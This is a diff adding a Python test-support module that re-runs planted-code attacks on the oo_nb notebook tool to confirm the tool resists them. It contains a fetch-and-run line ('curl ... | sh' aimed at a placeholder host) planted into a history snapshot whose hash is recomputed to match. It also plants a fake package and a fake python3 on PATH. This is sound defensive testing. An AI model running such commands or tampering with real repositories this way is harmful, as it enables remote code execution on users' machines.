@@ -1,0 +1,177 @@
+"""Reliability part 8 (attacks, round three): code that runs. Each row re-runs one attack of
+issue 28 from outside and counts the breaks found.
+
+- ``bash DOC`` and ``bash index.o-o.html`` in a cloned library holding a folder ``oo_nb/`` (or a
+  ``python3`` of its own, with ``.`` in PATH): a break is the planted code running.
+- ``oo rollback`` to a planted snapshot (its log row and hash made to match) whose shell adds a
+  command: a break is the planted shell restored without --allow-unknown-code.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import hashlib
+import io
+import json
+import os
+import subprocess
+import sys
+import tempfile
+from collections.abc import Callable
+from pathlib import Path
+
+from tests.support.figures import Figure
+
+__all__ = ["PLANTED_CASES", "attacks", "plant_snapshot", "planted_code_runs", "rollback"]
+
+PART = "8 attack"
+_MARK = "import pathlib; pathlib.Path({where!r}).write_text('planted code ran')\n"
+
+
+def _row(measure: str, trials: int, breaks: int) -> Figure:
+    return Figure(PART, measure, trials, breaks, "0", breaks == 0)
+
+
+# --------------------------------------------------------------------------- planted oo_nb
+def _library(folder: Path) -> Path:
+    """A library (one document, the index) with a planted ``oo_nb/`` package beside them."""
+    from oo_nb.edit.new import NewSpec, create_document
+    from oo_nb.library.index_page import write_index
+
+    folder.mkdir(parents=True)
+    create_document(NewSpec("Solar storms", "grid"), folder)
+    write_index(folder)
+    planted = folder / "oo_nb"
+    planted.mkdir()
+    mark = _MARK.format(where=str(folder.parent / "planted-ran"))
+    (planted / "__init__.py").write_text(mark)
+    (planted / "__main__.py").write_text(mark)
+    return folder
+
+
+def _env(**extra: str) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("OO_", "PYTHON"))}
+    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), "/usr/bin", "/bin"])
+    env.update(extra)
+    return env
+
+
+def _installed(folder: Path) -> dict[str, str]:
+    """oo_nb installed for the python3 found in PATH (this environment's)."""
+    return _env()
+
+
+def _not_installed(folder: Path) -> dict[str, str]:
+    """An interpreter without oo_nb: this one without its site-packages (-S)."""
+    bare = folder.parent / "bare-python"
+    bare.write_text(f'#!/bin/sh\nexec "{sys.executable}" -S "$@"\n')
+    bare.chmod(0o755)
+    return _env(OO_PYTHON=str(bare))
+
+
+def _dot_in_path(folder: Path) -> dict[str, str]:
+    """A ``python3`` of the library's own, and ``.`` first in PATH."""
+    fake = folder / "python3"
+    fake.write_text("#!/bin/sh\n" + f"echo 'planted code ran' > '{folder.parent}/planted-ran'\n")
+    fake.chmod(0o755)
+    env = _env()
+    env["PATH"] = "." + os.pathsep + env["PATH"]
+    return env
+
+
+PLANTED_CASES: dict[str, Callable[[Path], dict[str, str]]] = {
+    "installed": _installed,
+    "not installed": _not_installed,
+    "dot in PATH": _dot_in_path,
+}
+
+
+def planted_code_runs(workdir: Path, case: str, page: str) -> tuple[bool, int]:
+    """Run ``bash PAGE`` (the index, or the document with ``--show``) in a library holding a
+    planted ``oo_nb/``, the library being the current folder: whether the planted code ran, and
+    the exit status."""
+    folder = _library(workdir / "lib")
+    env = PLANTED_CASES[case](folder)
+    name = "index.o-o.html" if page == "index" else "solar-storms.o-o.html"
+    args = [name] if page == "index" else [name, "--show"]
+    done = subprocess.run(
+        ["bash", *args], cwd=folder, env=env, capture_output=True, timeout=120, check=False
+    )
+    return (workdir / "planted-ran").exists(), done.returncode
+
+
+def _planted(workdir: Path) -> Figure:
+    breaks = trials = 0
+    for case in PLANTED_CASES:
+        for page in ("index", "document"):
+            trials += 1
+            ran, status = planted_code_runs(
+                workdir / f"{case}-{page}".replace(" ", "-"), case, page
+            )
+            # where oo_nb is installed, the real command still runs
+            breaks += ran or (case != "not installed" and status != 0)
+    return _row("planted oo_nb/ or python3 in the library run by bash PAGE", trials, breaks)
+
+
+# --------------------------------------------------------------------------- planted snapshot
+PLANTED_LINE = "curl -s https://example.invalid/x | sh\n"
+
+
+def plant_snapshot(folder: Path) -> Path:
+    """A document with one kept state (seq 1) whose snapshot got a planted shell command, its
+    log row's hash made to match: history a clone or a hand edit can bring."""
+    from oo_nb.cli.main import main
+    from oo_nb.edit.new import NewSpec, create_document
+    from oo_nb.store.history import history_dir
+
+    folder.mkdir(parents=True)
+    create_document(NewSpec("Solar storms", "grid"), folder)
+    path = folder / "solar-storms.o-o.html"
+    with contextlib.redirect_stdout(io.StringIO()):
+        assert main(["contract", str(path), "--set", "budget", "2"]) == 0
+    log = history_dir(path) / "log.jsonl"
+    row = json.loads(log.read_text().splitlines()[0])
+    snapshot = log.parent / "snapshots" / row["file"]
+    data = snapshot.read_bytes().replace(
+        b"oo_require_python\ncase", b"oo_require_python\n" + PLANTED_LINE.encode() + b"case", 1
+    )
+    assert PLANTED_LINE.encode() in data
+    snapshot.write_bytes(data)
+    row["sha256"] = hashlib.sha256(data).hexdigest()
+    log.write_text(json.dumps(row) + "\n")
+    return path
+
+
+def rollback(path: Path, *extra: str) -> tuple[int, str]:
+    """``oo rollback PATH --seq 1 EXTRA``: (exit status, stderr)."""
+    from oo_nb.cli.main import main
+
+    err = io.StringIO()
+    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
+        code = main(["rollback", str(path), "--seq", "1", *extra])
+    return code, err.getvalue()
+
+
+def _planted_snapshot(workdir: Path) -> Figure:
+    path = plant_snapshot(workdir / "refused")
+    before = path.read_bytes()
+    code, said = rollback(path)
+    breaks = int(code == 0 or path.read_bytes() != before or "OO:SHELL section" not in said)
+    # asked for, it is restored
+    path = plant_snapshot(workdir / "allowed")
+    code, _ = rollback(path, "--allow-unknown-code")
+    breaks += code != 0 or PLANTED_LINE not in path.read_text()
+    return _row("planted shell restored by oo rollback without asking", 2, breaks)
+
+
+def attacks(workdir: Path) -> list[Figure]:
+    workdir.mkdir(parents=True, exist_ok=True)
+    steps: list[Callable[[Path], Figure]] = [_planted, _planted_snapshot]
+    return [step(workdir / step.__name__.strip("_")) for step in steps]
+
+
+if __name__ == "__main__":  # quick look: python -m tests.support.attacks_code
+    from tests.support.figures import render_table
+
+    with tempfile.TemporaryDirectory() as tmp:
+        print(render_table(attacks(Path(tmp))))
